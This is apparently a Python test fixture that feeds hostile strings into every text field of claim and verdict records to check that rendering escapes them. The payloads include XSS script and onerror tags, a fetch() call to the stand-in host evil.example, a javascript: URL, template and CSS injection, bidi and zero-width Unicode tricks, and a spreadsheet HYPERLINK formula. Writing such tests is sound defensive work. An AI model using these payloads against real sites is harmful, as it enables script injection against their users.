"""Claims whose words try to be markup, script, a picture, another direction of writing, or very long."""

from __future__ import annotations

from warehouse.claim_records import Claim, Verdict

SCRIPT = "<script>document.title='owned';fetch('https://evil.example/x')</script>"
WORDS = (
    SCRIPT,
    "</style><style>body{display:none}</style>",
    "<img src=https://evil.example/a.png onerror=alert(1)>",
    "![picture](https://evil.example/b.png)",
    "{{ 7 * 7 }}{% for x in () %}",
    "\u202egnp.egami \u2067right to left\u2069 \u200bhidden\U000e0041",
    "' onmouseover='alert(1)",
    "]]><!--<svg onload=alert(1)>",
    "x" * 10_000,
    "=HYPERLINK(\"https://evil.example\")",
    "שלום עולם",
)  # fmt: skip


def make_hostile(claim: Claim, words: str) -> Claim:
    """The claim with these words wherever a card's text goes."""
    source = claim.source.model_copy(update={"url": f"javascript:alert(1)//{words}", "title": words})
    changed = {"model": f"vendor/{words}", "benchmark_text": words, "variant": words, "said": words, "by": words}
    changed |= {"source": source, "place": words, "note": words}
    return claim.model_copy(update=changed)


def hostile_verdict(verdict: Verdict, words: str) -> Verdict:
    """The verdict with these words wherever a server's or a model's text goes."""
    reasons = tuple(reason.model_copy(update={"text": words}) for reason in verdict.reasons)
    compared = tuple(line.model_copy(update={"claimed": words}) for line in verdict.compared)
    return verdict.model_copy(update={"reasons": reasons, "compared": compared, "headline": words})
